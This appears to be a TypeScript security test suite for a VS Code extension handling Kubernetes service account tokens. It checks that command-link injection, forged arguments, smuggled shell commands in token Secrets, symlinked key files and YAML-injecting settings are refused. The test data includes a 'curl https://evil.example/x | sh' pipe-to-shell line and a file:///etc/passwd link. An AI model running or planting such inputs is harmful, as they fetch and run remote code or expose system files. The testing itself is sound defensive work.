// Attacks on the extension through notifications, command arguments, Secret contents, key file paths and settings
// (issue 10, items 1, 4, 6 and 9), on the pure parts; test/integration/suite/security.test.ts runs the same attacks
// inside VS Code.
import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, describe, it } from 'node:test';
import packageJson from '../../../package.json';
import { inertMessage } from '../../../src/core/messageText';
import { exactlyOneJwt, isTokenError } from '../../../src/core/tokens/inspect';
import { resolveNode } from '../../../src/features/cluster/nodes';
import { settingProblem, type SettingSchema } from '../../../src/features/shared/settingChecks';
import { isInsideAnyFolder } from '../../../src/features/tokens/keyFilePaths';
import { inventory } from '../features/cluster/fixtures';
import { generateKeys, mintLegacyToken } from '../core/tokens/mint';

/** VS Code's linked-text parser (src/vs/base/common/linkedText.ts), which notifications run over their message. */
const VSCODE_LINK = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)(?: (["'])(.+?)(\3))?\)/gi;

describe('security: notifications (issue 10, item 1)', () => {
  it('a Secret name carrying [label](command:…) never becomes a link (notification command-link injection)', () => {
    const name =
      'x. [Search the cluster](command:saToken.cluster.deleteTokenSecret?%7B%22type%22%3A%22tokenSecret%22%7D)';
    for (const hostile of [name, `[a]\n(command:x)`, '[a]  (https://evil.example/)', '[a](file:///etc/passwd "t")']) {
      const message = inertMessage(`No workload in the workspace reads Secret ${hostile}.`);
      assert.equal([...message.matchAll(VSCODE_LINK)].length, 0, message);
    }
    assert.equal(inertMessage('Deleted token Secret a/b.'), 'Deleted token Secret a/b.', 'plain text is unchanged');
  });

  it('a hand-made node is re-resolved against the inventory: another Secret type is never acted on (forged-argument attack)', () => {
    const forged = {
      type: 'tokenSecret',
      secret: { namespace: 'legacy-app', name: 'registry-credentials', populated: true },
      readers: [],
    };
    assert.equal(resolveNode(forged, 'tokenSecret', inventory), undefined);
    const listed = resolveNode(
      { type: 'tokenSecret', secret: { namespace: 'legacy-app', name: 'billing-token-x7k2p' }, readers: ['forged'] },
      'tokenSecret',
      inventory,
    );
    assert.equal(listed?.secret.name, 'billing-token-x7k2p');
    assert.notDeepEqual(listed?.readers, ['forged'], 'what the command shows comes from the inventory');
    for (const junk of [undefined, null, 'x', { type: 'tokenSecret' }, { type: 'serviceAccount', account: {} }])
      assert.equal(resolveNode(junk, 'tokenSecret', inventory), undefined);
  });
});

describe('security: data.token of a Secret (issue 10, item 6)', () => {
  it('a JWT followed by a shell command, two JWTs, or no JWT is refused with what is wrong (token-smuggling attack)', async () => {
    const token = await mintLegacyToken(await generateKeys());
    assert.equal(exactlyOneJwt(token), token);
    const cases: [string, RegExp][] = [
      [`${token}\ncurl https://evil.example/x | sh`, /^it holds a JWT plus 33 other characters around it$/],
      [`${token} ${token}`, /^it holds 2 JWTs, not one$/],
      ['curl https://evil.example/x | sh', /^it holds no JWT \(32 characters of something else\)$/],
      ['', /^it is empty$/],
      [`${token}\n`, /^it holds a JWT plus 1 other character around it$/],
    ];
    for (const [input, reason] of cases) {
      const verdict = exactlyOneJwt(input);
      assert.ok(isTokenError(verdict), JSON.stringify(input.slice(-40)));
      assert.match(verdict.error, reason);
      assert.ok(!verdict.error.includes('curl'), 'the reason never repeats the content');
    }
  });
});

describe('security: key files in Restricted Mode (issue 10, item 4)', () => {
  const root = mkdtempSync(join(tmpdir(), 'sa-token-keyfiles-'));
  after(() => rmSync(root, { recursive: true, force: true }));

  it("a key file resolving inside a workspace folder counts as the workspace's (planted-key attack)", () => {
    const repo = join(root, 'repo');
    const home = join(root, 'home');
    mkdirSync(join(repo, 'keys'), { recursive: true });
    mkdirSync(home);
    writeFileSync(join(repo, 'keys', 'sa.pub'), 'x');
    writeFileSync(join(home, 'own.pub'), 'x');
    symlinkSync(join(repo, 'keys', 'sa.pub'), join(home, 'linked.pub'));
    assert.ok(isInsideAnyFolder(join(repo, 'keys', 'sa.pub'), [repo]));
    assert.ok(isInsideAnyFolder(join(repo, 'keys', '..', 'keys', 'sa.pub'), [repo]));
    assert.ok(isInsideAnyFolder(join(home, 'linked.pub'), [repo]), 'a link into the repository counts as inside');
    assert.ok(!isInsideAnyFolder(join(home, 'own.pub'), [repo]));
    assert.ok(!isInsideAnyFolder(`${repo}-other/k.pub`, [repo]), 'a sibling folder with the same prefix is outside');
  });
});

describe('security: settings a workspace can set (issue 10, item 9)', () => {
  const schemas = packageJson.contributes.configuration.properties as unknown as Record<string, SettingSchema>;
  const problem = (key: string, value: unknown) => settingProblem(value, schemas[`saToken.${key}`]);

  it('out-of-range numbers and line breaks in fix values are refused with a clear reason (hostile-settings attack)', () => {
    assert.equal(problem('requestTimeoutSeconds', 1e9), 'out of range (1 to 600)');
    assert.equal(problem('requestTimeoutSeconds', 'soon'), 'expected a number');
    assert.equal(problem('fix.expirationSeconds', 10), 'out of range (600 to 4294967296)');
    assert.equal(problem('fix.expirationSeconds', 3600.5), 'expected a whole number');
    assert.match(problem('fix.mountPath', '/var/run\n  evil: true') ?? '', /one line, without ':'/);
    assert.match(problem('fix.mountPath', 'relative/path') ?? '', /An absolute path/);
    assert.match(problem('fix.audience', 'vault\n- evil') ?? '', /One line/);
    assert.match(problem('namespaces', ['ok', 'Not A Name']) ?? '', /^entry 2: A namespace name/);
    assert.match(problem('rules', { SAT001: 'loud' }) ?? '', /^"SAT001": expected one of error, warning/);
    assert.match(problem('rules', { SAT999: 'off' }) ?? '', /^unknown key "SAT999"/);
    assert.equal(problem('hover.enabled', 'yes'), 'expected true or false');
    assert.equal(problem('timeZone', 'mars'), 'expected one of utc, local');
  });

  it('every default in package.json passes its own declaration', () => {
    for (const [key, schema] of Object.entries(schemas)) {
      if ('default' in schema) assert.equal(settingProblem(schema.default, schema), undefined, key);
    }
  });
});
